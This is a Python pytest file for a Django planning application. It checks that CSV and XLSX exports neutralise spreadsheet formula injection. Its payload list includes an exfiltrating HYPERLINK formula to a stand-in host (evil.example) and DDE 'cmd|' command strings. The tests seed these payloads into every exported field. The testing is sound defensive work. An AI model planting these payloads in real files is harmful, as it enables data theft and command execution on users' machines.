"""No file kehoach writes runs code in a spreadsheet (OWASP CSV injection, issue 14).

Text that starts with ``= + - @``, a tab or a carriage return goes through every text field that
reaches an export -- an officer's figure (source, comparison, unit, explanation) and progress
update (note, evidence, explanation), the plan's names and texts (indicators, tasks, projects,
agencies, leaders, documents), a figure imported with ``kehoach actuals import`` -- and every
export is opened: the lists' CSV and XLSX downloads, the approval queue's three lists, the
report's Excel appendices, the workspace's Excel template. No XLSX cell is a formula (the text is
kept as written, as a string cell); no CSV cell starts a formula (OWASP: a leading apostrophe).
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from io import StringIO

from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from kehoach.domain.formulas import FORMULA_STARTS, csv_text, runs_as_formula
from tests.apps.site import authorisation_rules as rules
from tests.apps.site.test_authorisation_matrix import EXPORTS, rule_for

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PAYLOADS = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+2", "\r=3+4"]


def payload(n: int) -> str:
    return PAYLOADS[n % len(PAYLOADS)] + f" #{n}"


def test_csv_text_is_prefixed_and_other_values_are_kept():
    for start in FORMULA_STARTS:
        assert csv_text(start + "1+1") == "'" + start + "1+1"
    assert csv_text("Sở Công Thương") == "Sở Công Thương" and csv_text(-5) == -5
    assert not runs_as_formula(-5) and runs_as_formula("-5")


def poison(people, tmp_path):
    """Payloads in every text field that reaches an export."""
    from kehoach.apps.documents.models import Document
    from kehoach.apps.figures import entry as workspace
    from kehoach.apps.figures import services as figure_services
    from kehoach.apps.figures.models import ActualFigure
    from kehoach.apps.indicators.models import Indicator
    from kehoach.apps.organisations.models import Agency, Leader
    from kehoach.apps.projects.models import Project
    from kehoach.apps.tasks import services as task_services
    from kehoach.apps.tasks.models import Task
    from tests.apps.workspace.workspace_support import agency, task_of

    n = iter(range(1000))
    # a figure imported from a file whose source is a formula
    path = tmp_path / "so-lieu.csv"
    with open(path, "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["indicator", "period", "value", "qualifier", "unit", "comparison", "scope", "source",
                         "published"])
        writer.writerow(["exports", "2025-07", "3.456,7", "", "triệu USD", payload(next(n)), "HP cũ", HYPERLINK,
                         "2025-08-05"])
    call_command("actuals", "import", str(path), stdout=StringIO())
    imported = ActualFigure.objects.get(indicator__key="exports", period="2025-07", is_current=True)
    figure_services.publish(imported, people[rules.ADMIN])  # on the public list
    officer = people[rules.OFFICER_A]
    explanation = {"cause": payload(next(n)), "difficulties": payload(next(n)), "proposals": payload(next(n))}
    # an officer's figures: one submitted (the queue's figures), one approved (the queue's to-publish list)
    for period in ("2025-07", "2025-06"):
        row, problems = workspace.FigureChecker(agency()).check(0, {
            "indicator": "iip", "period": period, "value": "110", "qualifier": "", "unit": "",
            "comparison": payload(next(n)), "scope": "HP cũ", "source": payload(next(n)), "published": "2025-08-06"})
        assert row is not None, problems
        figure, _ = workspace.enter_figure(agency(), workspace.FigureEntry(0, row, **explanation), officer)
        figure = figure_services.submit(figure, officer)
    figure_services.approve(figure, people[rules.ADMIN])
    # an officer's progress update, submitted
    progress = task_services.record_progress(task_of(), on=date(2025, 8, 6), status="in_progress", percent=40,
                                             note=payload(next(n)), evidence_reference=payload(next(n)),
                                             user=officer, **explanation)
    task_services.submit_progress(progress, officer, as_of=date(2025, 8, 6))
    # the plan's texts, as a document could write them
    for model, fields in [(Indicator, ("name",)), (Task, ("content", "deadline_text")),
                          (Project, ("name",)), (Leader, ("name", "title")), (Document, ("title",))]:
        for obj in model.objects.all():
            for name in fields:
                if hasattr(obj, name):
                    setattr(obj, name, payload(next(n)))
            obj.save()
    for other in Agency.objects.exclude(pk=agency().pk):
        other.name = payload(next(n))
        other.save()


def formula_cells(content: bytes) -> list[str]:
    """Every formula cell of a workbook (read back with openpyxl, and in the sheets' XML)."""
    found = []
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            found += [f"{sheet.title}!{c.coordinate}: {c.value!r}" for c in row if c.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        found += [name for name in archive.namelist() if name.startswith("xl/worksheets/")
                  and b"<f>" in archive.read(name)]
    return found


def texts_of(content: bytes, fmt: str) -> list[str]:
    if fmt == "csv":
        return [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]
    book = load_workbook(io.BytesIO(content))
    return [str(c.value) for s in book.worksheets for row in s.iter_rows() for c in row if c.value is not None]


def downloads(people) -> dict[str, tuple[str, bytes]]:
    """Every export, opened by a role that may read it: name -> (format, content)."""
    admin, officer = Client(), Client()
    admin.force_login(people[rules.ADMIN])
    officer.force_login(people[rules.OFFICER_A])
    from tests.apps.workspace.workspace_support import agency

    urls = {}
    for endpoint in EXPORTS:
        kwargs = rule_for(endpoint).args(None) if "<" in endpoint.route else {}
        for fmt in ("csv", "xlsx"):
            urls[f"{endpoint.key} {fmt}"] = (fmt, reverse(endpoint.name, kwargs=kwargs)
                                            + f"?as_of=2025-08-06&export={fmt}")
    for name in ("figures", "progress", "publish"):
        for fmt in ("csv", "xlsx"):
            urls[f"approvals {name} {fmt}"] = (fmt, reverse("approvals:queue")
                                               + f"?as_of=2025-08-06&export={fmt}&list={name}")
    out = {}
    for key, (fmt, url) in urls.items():
        response = admin.get(url)
        assert response.status_code == 200, f"{key}: {response.status_code}"
        out[key] = (fmt, response.content)
    template = officer.get(reverse("workspace:template", args=[agency().pk]) + "?as_of=2025-08-06")
    assert template.status_code == 200
    out["workspace template"] = ("xlsx", template.content)
    report = admin.post(reverse("reports:index") + "?as_of=2025-08-06",
                        {"as_of": "06/08/2025", "kind": "month", "fmt": "xlsx"})
    assert report.status_code == 200 and report["Content-Type"].startswith("application/vnd.openxml"), report
    out["report appendices"] = ("xlsx", b"".join(report.streaming_content))
    return out


def test_no_export_holds_a_formula(people, tmp_path):
    poison(people, tmp_path)
    files = downloads(people)
    problems = []
    for key, (fmt, content) in files.items():
        texts = texts_of(content, fmt)
        if fmt == "xlsx":
            problems += [f"{key}: formula {cell}" for cell in formula_cells(content)]
        else:
            problems += [f"{key}: cell {t!r} starts a formula" for t in texts if runs_as_formula(t)]
        if not any("evil.example" in t or "cmd|" in t or "=1+2" in t or "=3+4" in t or "@SUM" in t for t in texts):
            problems.append(f"{key}: none of the payloads reached it (the test would prove nothing)")
    assert problems == []


def test_the_text_is_kept_as_written(people, tmp_path):
    """The officer's note is the same text in the XLSX (a string cell) and, after the apostrophe, in the CSV;
    ``kehoach actuals import`` stored the formula-like source as written."""
    from kehoach.apps.figures.models import ActualFigure

    poison(people, tmp_path)
    assert ActualFigure.objects.get(indicator__key="exports", period="2025-07", is_current=True).source == HYPERLINK
    files = downloads(people)
    xlsx = texts_of(files["approvals progress xlsx"][1], "xlsx")
    from kehoach.apps.tasks.models import TaskProgress

    note = TaskProgress.objects.get(review_status="submitted", note__contains=" #").note
    assert " ".join(note.split()) in xlsx  # a string cell, its text as written (the export folds whitespace)
    public = texts_of(files["dashboard:public csv"][1], "csv")
    assert "'" + HYPERLINK in public
